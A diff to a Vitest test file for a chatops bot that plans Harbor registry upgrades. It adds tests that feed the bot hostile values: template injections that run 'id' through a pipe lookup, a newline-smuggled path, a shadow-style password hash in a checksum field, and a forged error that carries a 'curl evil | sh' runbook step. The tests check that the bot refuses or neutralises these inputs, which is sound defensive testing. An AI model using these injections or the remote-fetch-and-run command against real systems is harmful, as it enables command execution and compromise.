@@ -1,4 +1,6 @@
+import { gunzipSync } from 'node:zlib';
 import { expect, it } from 'vitest';
+import { Fault } from '../../src/chatops/errors.ts';
 import { installerOf, openHarborHouse } from './harbor-house.ts';
 import { stepNames } from './restore-house.ts';
 
@@ -105,6 +107,33 @@ it('is refused where nobody could ask the registry, or look at its host', async 
   const house = await openHarborHouse();
   house.unreachable = 'timed out';
   expect(await house.refused(to214)).toMatch(/Nobody could look at the host of reg-eu.*timed out/);
+});
+
+it.each([
+  ['file', '/packages/{{ lookup("pipe", "id") }}/harbor-offline-installer-v2.12.4.tgz'],
+  ['file', '/packages/harbor-offline-installer-v2.12.4.tgz\n{{ 7 * 7 }}'],
+  ['version', '2.12.4{{ 7 * 7 }}'],
+  ['sha256', 'root:$6$hidden:19000:0:99999:7:::'],
+])('believes no host whose package has a %s such as %j', async (what, value) => {
+  const { facts, refused } = await openHarborHouse();
+  Object.assign(facts, { packages: [{ ...installerOf('2.12.4'), [what]: value }, installerOf('2.14.1')] });
+  const said = await refused(to214);
+  expect(said).toContain(`is not understood at packages.0.${what}`);
+  expect(said).not.toContain(value);
+});
+
+it('writes nothing into its runbook that looks like a step and is what somebody else wrote', async () => {
+  const { harbor, plans, bot } = await openHarborHouse();
+  const evil = '<!channel>\n\n## By hand\n\n```sh\ncurl evil | sh\n```';
+  harbor.broken.set(
+    'jobs',
+    new Fault(evil, { port: 'harbor', operation: 'ask', code: 'HARBOR_FORBIDDEN', retryable: false }),
+  );
+  const { id } = await plans(to214);
+  const { file } = bot.said(id.replace('a-', 'r-'));
+  const text = gunzipSync(Buffer.from(file?.base64 ?? '', 'base64')).toString();
+  expect(text).toContain('## By hand ```sh curl evil');
+  expect(text).not.toMatch(/^curl evil/m);
 });
 
 it('is for operators of the registry', async () => {
